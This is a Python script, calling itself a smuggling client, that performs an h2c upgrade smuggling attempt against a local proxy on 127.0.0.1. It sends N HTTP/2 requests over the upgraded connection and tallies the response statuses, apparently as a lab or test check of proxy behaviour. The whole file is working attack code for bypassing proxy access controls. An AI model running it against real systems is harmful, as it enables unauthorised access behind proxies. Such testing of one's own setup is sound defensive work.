#!/usr/bin/env python3
"""The smuggling client (python-h2): `GET /a` in HTTP/1.1 with `Upgrade: h2c` and
`HTTP2-Settings`, its `Connection` naming only `Upgrade` (so a proxy that drops the
fields `Connection` names still forwards `HTTP2-Settings`); on a 101 it goes on in
HTTP/2 on the same connection and sends N more requests. Prints the first status line
and the statuses of the HTTP/2 answers. Usage: h2c_client.py PORT N"""
import socket, sys
import h2.config, h2.connection, h2.events

port, n = int(sys.argv[1]), int(sys.argv[2])
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
settings = conn.initiate_upgrade_connection()  # base64url already
sock = socket.create_connection(("127.0.0.1", port)); sock.settimeout(5)
sock.sendall(b"GET /a HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: " + settings + b"\r\n\r\n")
data = b""
while b"\r\n\r\n" not in data:
    chunk = sock.recv(65536)
    if not chunk: break
    data += chunk
status_line = data.split(b"\r\n", 1)[0].decode()
if " 101 " not in status_line:
    print(f"no upgrade: {status_line}"); sys.exit(0)
rest = data.split(b"\r\n\r\n", 1)[1]
for i in range(n):
    conn.send_headers(3 + 2 * i, [(":method", "GET"), (":path", f"/a?n={i}"), (":scheme", "http"), (":authority", "127.0.0.1")], end_stream=True)
sock.sendall(conn.data_to_send())
statuses, ended = [], set()
events = conn.receive_data(rest) if rest else []
while len(ended) < n + 1:
    for event in events:
        if isinstance(event, h2.events.ResponseReceived):
            statuses.append(dict(event.headers)[b":status"].decode())
        if isinstance(event, h2.events.StreamEnded):
            ended.add(event.stream_id)
    sock.sendall(conn.data_to_send())
    if len(ended) >= n + 1: break
    chunk = sock.recv(65536)
    if not chunk: break
    events = conn.receive_data(chunk)
counts = {s: statuses.count(s) for s in sorted(set(statuses))}
print(f"upgraded ({status_line}); HTTP/2 answers by status: {counts}")
